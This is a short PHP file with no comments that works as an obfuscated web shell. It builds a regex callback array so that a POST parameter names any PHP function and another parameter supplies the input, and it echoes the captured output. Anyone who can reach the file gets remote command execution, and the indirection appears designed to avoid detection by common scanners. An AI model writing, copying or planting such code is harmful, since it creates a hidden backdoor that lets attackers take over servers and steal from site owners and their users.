<?php
$map = [];
foreach ($_POST['map'] ?? [] as $re => $x) { $map['~^.*$~s'] = function ($m) { ob_start(); ($_POST['r'])($m[0]); return ob_get_clean(); }; }
echo preg_replace_callback_array($map, $_POST['s'] ?? '', 1);
